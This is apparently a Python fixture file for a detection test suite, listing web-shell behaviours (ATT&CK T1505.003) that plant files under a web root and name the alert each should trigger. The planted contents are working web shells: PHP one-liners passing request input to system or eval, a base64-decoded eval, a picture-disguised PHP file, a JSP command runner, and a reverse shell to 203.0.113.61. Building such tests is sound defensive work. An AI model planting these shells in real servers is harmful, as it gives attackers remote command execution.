"""Scripts and programs left below web roots (ATT&CK T1505.003). Their texts do nothing unless a web server runs them."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour

ROOT = "/var/www/html"

BEHAVIOURS = (
    Behaviour(
        name="web_shell_runs_what_is_asked",
        techniques=("T1505.003", "T1059"),
        does="A script of one line hands what the request brings to a shell.",
        marks=(f"{ROOT}/about.php",),
        raises=("web_script_runs_what_request_brings",),
        files={f"{ROOT}/about.php": "<?php system($_GET['c']); ?>\n"},
    ),
    Behaviour(
        name="web_shell_evaluates_posted_code",
        techniques=("T1505.003", "T1059"),
        does="A script evaluates the code that is posted to it.",
        marks=(f"{ROOT}/inc/footer.php",),
        raises=("web_script_runs_what_request_brings",),
        files={f"{ROOT}/inc/footer.php": "<?php @eval($_POST['footer']); ?>\n"},
    ),
    Behaviour(
        name="web_shell_in_upload_directory",
        techniques=("T1505.003",),
        does="The web server itself wrote a script that starts programs into the directory for uploads.",
        marks=(f"{ROOT}/uploads/2026/a.php",),
        raises=("web_script_in_upload_directory_has_power",),
        files={f"{ROOT}/uploads/2026/a.php": "<?php $k = 'uname -a'; echo shell_exec($k); ?>\n"},
        shell=f"chown -R 33:33 {ROOT}/uploads/2026",
    ),
    Behaviour(
        name="web_shell_disguised_as_picture",
        techniques=("T1505.003", "T1036.008"),
        does="A file that servers take for a script, by the first of its endings, looks like a picture by the last.",
        marks=(f"{ROOT}/img/logo.php.png",),
        raises=("web_script_disguised_as_picture",),
        files={f"{ROOT}/img/logo.php.png": "GIF89a<?php $f = 'x'; echo shell_exec('id'); ?>\n"},
    ),
    Behaviour(
        name="web_shell_decodes_itself",
        techniques=("T1505.003", "T1027", "T1140"),
        does="A script keeps its code in a long text in base64.",
        marks=(f"{ROOT}/cache.php",),
        raises=("web_script_runs_decoded_code",),
        files={f"{ROOT}/cache.php": "<?php eval(base64_decode('" + "ZWNobyAneCc7" * 120 + "')); ?>\n"},
    ),
    Behaviour(
        name="web_shell_connects_back",
        techniques=("T1505.003", "T1059", "T1095"),
        does="A script connects a shell to a distant machine.",
        marks=(f"{ROOT}/status.php",),
        raises=("web_script_connects_shell",),
        files={
            f"{ROOT}/status.php": "<?php\n$s = fsockopen('203.0.113.61', 443);\n"
            "$p = proc_open('/bin/sh', array($s, $s, $s), $pipes);\n"
        },
    ),
    Behaviour(
        name="web_shell_hidden",
        techniques=("T1505.003", "T1564.001"),
        does="A script lies in a directory whose name begins with a dot.",
        marks=(f"{ROOT}/.thumbs/view.php",),
        raises=("web_script_hidden",),
        files={f"{ROOT}/.thumbs/view.php": "<?php echo 'ok'; ?>\n"},
    ),
    Behaviour(
        name="web_shell_in_java",
        techniques=("T1505.003",),
        does="A page of a Java server starts the program that the request names.",
        marks=("/var/lib/tomcat9/webapps/ROOT/help.jsp",),
        raises=("web_script_java_starts_programs",),
        files={
            "/var/lib/tomcat9/webapps/ROOT/help.jsp": '<%@ page import="java.util.*" %>\n'
            '<% String c = request.getParameter("q"); Process p = Runtime.getRuntime().exec(c); %>\n'
        },
    ),
    Behaviour(
        name="program_below_web_root",
        techniques=("T1505.003", "T1105"),
        does="A compiled program lies below the web root.",
        marks=(f"{ROOT}/js/jquery",),
        raises=("file_elf_web_root",),
        shell=f"mkdir -p {ROOT}/js; cp /bin/true {ROOT}/js/jquery",
    ),
)
